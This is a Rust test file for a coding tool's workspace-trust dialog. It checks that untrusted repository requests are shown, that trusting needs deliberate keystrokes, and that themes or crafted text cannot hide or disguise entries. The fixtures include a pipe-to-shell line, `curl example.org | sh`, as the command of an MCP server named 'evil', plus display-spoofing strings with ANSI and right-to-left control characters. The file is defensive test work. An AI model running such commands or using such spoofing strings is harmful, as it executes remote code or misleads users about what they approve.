//! Tests of the trust dialog.

use codewright_proto::{TrustChoice, TrustDismissal, TrustInput, TrustReply};

use super::*;

const DIRECTORY: &str = "/home/me/project";

fn reply(value: Value) -> TrustReply {
    serde_json::from_value(value).unwrap()
}

/// A repository that the user has not decided about.
fn undecided() -> Value {
    json!({
        "root": DIRECTORY, "status": "undecided", "fingerprint": "one", "changes": [],
        "requests": [
            {"source": "opencode.json", "key": "mcp.evil", "text": "start the MCP server `evil`: `curl example.org | sh`"},
            {"source": ".opencode/command/x.md", "key": "command.x", "text": "define the command `x`"},
        ],
    })
}

fn with(mut value: Value, key: &str, other: Value) -> Value {
    value[key] = other;
    value
}

impl Stage {
    fn trust(&mut self, value: Value) {
        self.reply(Reply::Trust { directory: DIRECTORY.to_owned(), reply: Some(reply(value)) });
    }

    /// Waits until keys are no longer ignored.
    fn pause(&mut self) {
        self.now += 1_000;
        self.msg(Msg::Tick);
    }

    fn decided(&mut self, decision: TrustChoice, answer: Result<Value, (&str, Option<Value>)>) {
        let answer = answer.map(reply).map_err(|(problem, present)| (problem.to_owned(), present.map(reply)));
        self.reply(Reply::TrustDecided { directory: DIRECTORY.to_owned(), decision, answer });
    }
}

fn decide(decision: TrustChoice, fingerprint: &str) -> Cmd {
    let input = TrustInput { decision, fingerprint: fingerprint.to_owned() };
    Cmd::DecideTrust { directory: DIRECTORY.to_owned(), input }
}

fn dismiss(fingerprint: &str) -> Cmd {
    let dismissal = TrustDismissal { fingerprint: fingerprint.to_owned() };
    Cmd::DismissTrust { directory: DIRECTORY.to_owned(), dismissal }
}

fn trust_question(tool: bool) -> Value {
    let mut question = json!({
        "id": "que_000000000001aaaaaaaaaaaaaa", "sessionID": SESSION,
        "questions": [{
            "question": "Do you trust the project?", "header": "Trust", "custom": false,
            "options": [{"label": "Trust this repository", "description": ""}, {"label": "Not now", "description": ""}],
        }],
    });
    if tool {
        question["tool"] = json!({"messageID": message_id(1), "callID": "c"});
    }
    question
}

#[test]
fn the_trust_of_the_directory_is_requested_once_and_again_when_it_may_have_changed() {
    let mut stage = Stage::with(options(), (100, 30));
    let load = Cmd::LoadTrust(DIRECTORY.to_owned());
    stage.msg(Msg::Connected);
    let count = |cmds: Vec<Cmd>| cmds.iter().filter(|cmd| **cmd == load).count();
    assert_eq!(count(stage.take_cmds()), 0, "the first request is still running");
    stage.trust(with(undecided(), "status", json!("trusted")));
    assert_eq!(count(stage.take_cmds()), 1);
    stage.trust(with(undecided(), "status", json!("trusted")));
    stage.write("hello");
    assert_eq!(count(stage.take_cmds()), 0);
    stage.event("server.instance.disposed", json!({"directory": DIRECTORY}));
    assert_eq!(count(stage.take_cmds()), 1);
}

#[test]
fn an_undecided_directory_lists_its_requests_and_not_now_is_selected() {
    let mut stage = Stage::started(100, 30);
    stage.trust(undecided());
    stage.check("trust");
    stage.pause();
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [dismiss("one")]);
    stage.hides("Workspace trust");
    stage.shows("~/project:main · untrusted");
    // The dialog does not appear again for the same files, but for other files.
    stage.reply(Reply::TrustDismissed { directory: DIRECTORY.to_owned(), is_noted: true });
    stage.trust(undecided());
    stage.hides("Workspace trust");
    let changes = json!([{"path": "opencode.json", "kind": "changed"}, {"path": ".opencode/plugin/a.js", "kind": "added"}]);
    stage.trust(with(with(undecided(), "fingerprint", json!("two")), "changes", changes));
    stage.check("trust-changes");
}

#[test]
fn escape_means_not_now() {
    let mut stage = Stage::started(100, 30);
    stage.trust(undecided());
    stage.pause();
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Esc);
    assert_eq!(stage.take_cmds(), [dismiss("one")]);
}

#[test]
fn trusting_needs_two_moves_and_enter_and_applies_to_the_displayed_files() {
    let mut stage = Stage::started(100, 30);
    stage.trust(undecided());
    stage.pause();
    stage.press(KeyCode::Left);
    stage.shows("[Not now]");
    stage.press(KeyCode::Right);
    stage.shows("[Do not trust it]");
    stage.press(KeyCode::Right);
    stage.shows("[Trust this repository]");
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [decide(TrustChoice::Trust, "one")]);
    stage.shows("Storing the decision…");
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [], "the decision is sent once");
    stage.decided(TrustChoice::Trust, Ok(with(undecided(), "status", json!("trusted"))));
    stage.hides("Workspace trust");
    stage.hides("untrusted");
    stage.shows("the repository is trusted");
}

#[test]
fn no_single_key_trusts() {
    let keys = (' '..='~').map(KeyCode::Char).chain([
        KeyCode::Enter,
        KeyCode::Tab,
        KeyCode::BackTab,
        KeyCode::Left,
        KeyCode::Right,
        KeyCode::Up,
        KeyCode::Down,
        KeyCode::Esc,
    ]);
    for key in keys {
        let mut stage = Stage::started(100, 30);
        stage.trust(undecided());
        stage.pause();
        stage.press(key);
        stage.press(KeyCode::Enter);
        let trusts = stage.take_cmds().contains(&decide(TrustChoice::Trust, "one"));
        assert!(!trusts, "{key:?}");
    }
}

#[test]
fn typed_text_continues_in_the_prompt_and_decides_nothing() {
    let mut stage = Stage::started(100, 30);
    stage.write("hel");
    stage.trust(undecided());
    for c in "lo there".chars() {
        stage.now += 200;
        stage.press(KeyCode::Char(c));
    }
    stage.msg(Msg::Paste(" pasted".to_owned()));
    for key in [KeyCode::Tab, KeyCode::Right, KeyCode::Right, KeyCode::Enter, KeyCode::Esc] {
        stage.now += 100;
        stage.press(key);
    }
    assert_eq!(stage.take_cmds(), []);
    stage.shows("[Not now]");
    assert_eq!(stage.state.prompt.editor.text(), "hello there pasted");
    stage.pause();
    stage.press(KeyCode::Char('x'));
    stage.press(KeyCode::Esc);
    assert_eq!(stage.take_cmds(), [dismiss("one")]);
    stage.shows("hello there pasted");
}

#[test]
fn changed_files_are_displayed_again_and_the_selection_is_reset() {
    let mut stage = Stage::started(100, 30);
    stage.trust(undecided());
    stage.pause();
    stage.press(KeyCode::Tab);
    stage.press(KeyCode::Tab);
    stage.press(KeyCode::Enter);
    stage.take_cmds();
    let other = with(undecided(), "fingerprint", json!("two"));
    let other = with(
        other,
        "requests",
        json!([{"source": "opencode.json", "key": "shell", "text": "use the shell `/tmp/x`"}]),
    );
    stage.decided(TrustChoice::Trust, Err(("the control files have changed", Some(other))));
    stage.shows("Not stored: the control files have changed");
    stage.shows("use the shell `/tmp/x`");
    stage.shows("[Not now]");
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [], "repeating the key decides nothing");
    stage.pause();
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [decide(TrustChoice::Restrict, "two")]);
    stage.decided(TrustChoice::Restrict, Ok(with(undecided(), "status", json!("restricted"))));
    stage.shows("the repository is not trusted");
    stage.shows("untrusted");
}

#[test]
fn all_requests_can_be_scrolled_to_and_none_can_look_like_another() {
    let mut stage = Stage::started(60, 20);
    let requests: Vec<Value> = (1..=40)
        .map(|nth| json!({"source": "opencode.json", "key": "mcp", "text": format!("request number {nth}")}))
        .collect();
    let mut requests = requests;
    let padded = format!("run `{}• nothing at all`\n• harmless\u{1b}[2J\u{202e}", "x ".repeat(30));
    requests.insert(0, json!({"source": "a\nb", "key": "mcp", "text": padded}));
    stage.trust(with(undecided(), "requests", json!(requests)));
    stage.check("trust-scrolled");
    stage.pause();
    stage.shows("41 requests:");
    stage.hides("request number 40");
    stage.press(KeyCode::End);
    stage.shows("request number 40");
    stage.press(KeyCode::PageUp);
    stage.hides("request number 40");
    for _ in 0..30 {
        stage.press(KeyCode::Char('j'));
    }
    stage.shows("request number 40");
    stage.press(KeyCode::Char('k'));
    stage.hides("request number 40");
}

#[test]
fn a_directory_that_cannot_be_trusted_has_a_reason() {
    let mut stage = Stage::started(100, 30);
    let limited =
        with(with(undecided(), "status", json!("restricted")), "limit", json!("it has 4001 control files"));
    stage.trust(limited.clone());
    stage.hides("Workspace trust");
    stage.shows("untrusted");
    stage.write("/trust");
    stage.press(KeyCode::Enter);
    stage.shows("It cannot be trusted: it has 4001 control files");
    stage.shows("[Not now]  Do not trust it");
    stage.hides("Trust this repository");
    assert_eq!(stage.take_cmds(), [Cmd::LoadTrust(DIRECTORY.to_owned())]);
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [decide(TrustChoice::Restrict, "one")]);
}

#[test]
fn a_decision_can_be_viewed_and_changed() {
    let mut stage = Stage::started(100, 30);
    stage.trust(with(undecided(), "status", json!("trusted")));
    stage.take_cmds();
    stage.control('p');
    stage.write("workspace trust");
    stage.press(KeyCode::Enter);
    stage.shows("This repository is trusted.");
    stage.shows("[Close]  Do not trust it");
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Enter);
    let load = Cmd::LoadTrust(DIRECTORY.to_owned());
    assert_eq!(stage.take_cmds(), [load.clone(), decide(TrustChoice::Restrict, "one")]);
    stage.decided(TrustChoice::Restrict, Ok(with(undecided(), "status", json!("trusted"))));
    stage.shows("CODEWRIGHT_TRUST decides");
    stage.trust(
        json!({"root": DIRECTORY, "status": "unneeded", "fingerprint": "", "requests": [], "changes": []}),
    );
    stage.take_cmds();
    stage.write("/trust");
    stage.press(KeyCode::Enter);
    stage.shows("requests nothing");
    stage.press(KeyCode::Right);
    stage.press(KeyCode::Enter);
    assert_eq!(stage.take_cmds(), [load]);
    stage.hides("Workspace trust");
}

#[test]
fn a_server_without_trust_causes_no_dialog_and_no_error() {
    let mut stage = Stage::started(100, 30);
    let before = stage.screen();
    let nothing = || Reply::Trust { directory: DIRECTORY.to_owned(), reply: None };
    stage.reply(nothing());
    assert_eq!(stage.screen(), before);
    stage.write("/trust");
    stage.press(KeyCode::Enter);
    stage.hides("no workspace trust");
    stage.reply(nothing());
    stage.shows("this server has no workspace trust");
}

#[test]
fn the_dialog_waits_until_no_other_layer_is_open() {
    let mut stage = Stage::started(100, 30);
    stage.control('p');
    stage.trust(undecided());
    stage.hides("Workspace trust  ");
    stage.press(KeyCode::Esc);
    stage.shows("Do you trust this repository?");
    // Another client decides.
    stage.trust(with(undecided(), "status", json!("trusted")));
    stage.hides("Do you trust this repository?");
    assert!(stage.state.layers.is_empty());
}

#[test]
fn the_servers_question_is_not_displayed_with_the_dialog() {
    let mut stage = Stage::in_session(100, 30);
    stage.trust(undecided());
    stage.take_cmds();
    stage.event("question.asked", trust_question(false));
    assert_eq!(stage.take_cmds(), [Cmd::LoadTrust(DIRECTORY.to_owned())], "the trust may have changed");
    stage.trust(undecided());
    stage.shows("2 requests:");
    stage.hides("Do you trust the project?");
    stage.pause();
    stage.press(KeyCode::Esc);
    assert_eq!(stage.take_cmds(), [dismiss("one")]);
    stage.hides("Do you trust the project?");
    stage.reply(Reply::TrustDismissed { directory: DIRECTORY.to_owned(), is_noted: true });
    stage.hides("Do you trust the project?");
    stage.hides("2 requests:");
    // The server repeats its question: the dialog comes back, because this server waits for an answer.
    stage.event("question.asked", trust_question(false));
    stage.trust(undecided());
    stage.shows("2 requests:");
    stage.hides("Do you trust the project?");
}

#[test]
fn a_question_is_displayed_if_the_dialog_cannot_replace_it() {
    for (tool, answer) in [(false, None), (true, Some(undecided()))] {
        let mut stage = Stage::in_session(100, 30);
        stage.reply(Reply::Trust { directory: DIRECTORY.to_owned(), reply: answer.map(reply) });
        stage.pause();
        stage.press(KeyCode::Esc);
        stage.reply(Reply::TrustDismissed { directory: DIRECTORY.to_owned(), is_noted: true });
        stage.event("question.asked", trust_question(tool));
        stage.reply(Reply::Trust { directory: DIRECTORY.to_owned(), reply: None });
        stage.shows("Do you trust the project?");
    }
}

#[test]
fn a_session_of_another_directory_has_its_own_trust() {
    let mut stage = Stage::in_session(100, 30);
    stage.trust(with(undecided(), "status", json!("trusted")));
    stage.take_cmds();
    let mut moved = session(SESSION, None);
    moved["directory"] = json!("/home/me/other");
    stage.event("session.updated", json!({"sessionID": SESSION, "info": moved}));
    assert!(stage.take_cmds().contains(&Cmd::LoadTrust("/home/me/other".to_owned())));
    let other = with(undecided(), "root", json!("/home/me/other"));
    stage.reply(Reply::Trust { directory: "/home/me/other".to_owned(), reply: Some(reply(other)) });
    stage.shows("/home/me/other");
    stage.shows("[Not now]");
}

#[test]
fn a_theme_from_a_file_does_not_colour_the_dialog() {
    let mut stage = Stage::started(100, 30);
    let hidden = json!({"theme": {"text": "#000000", "background": "#000000", "primary": "#ffffff",
        "error": "#000000", "warning": "#000000", "success": "#000000", "textMuted": "#000000"}});
    stage.state.themes.insert("hidden".to_owned(), hidden);
    stage.state.choose_theme("hidden").unwrap();
    stage.trust(undecided());
    let buffer = stage.buffer();
    let row = stage.screen().lines().position(|line| line.contains("start the MCP server")).unwrap();
    let y = u16::try_from(row).unwrap();
    let x = (0..100).find(|x| buffer[(*x, y)].symbol() == "s").unwrap();
    let cell = &buffer[(x, y)];
    assert_ne!(cell.fg, cell.bg);
}

#[test]
fn the_small_client_and_small_terminals_can_display_it() {
    for size in [(20, 6), (30, 10), (60, 16)] {
        let mut stage = Stage::started(size.0, size.1);
        stage.trust(undecided());
        stage.pause();
        stage.shows("Not now]");
        stage.press(KeyCode::End);
        stage.press(KeyCode::Home);
        stage.press(KeyCode::Esc);
        assert_eq!(stage.take_cmds(), [dismiss("one")]);
    }
    let mut stage = Stage::with(Options { mini: Some(0), ..options() }, (80, 24));
    stage.trust(undecided());
    let bottom = view::mini::bottom(&stage.state, Vec::new());
    let text = bottom.lines.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n");
    assert!(text.contains("[Not now]") && text.contains("define the command `x`"), "{text}");
    assert!(text.contains("untrusted"), "{text}");
}
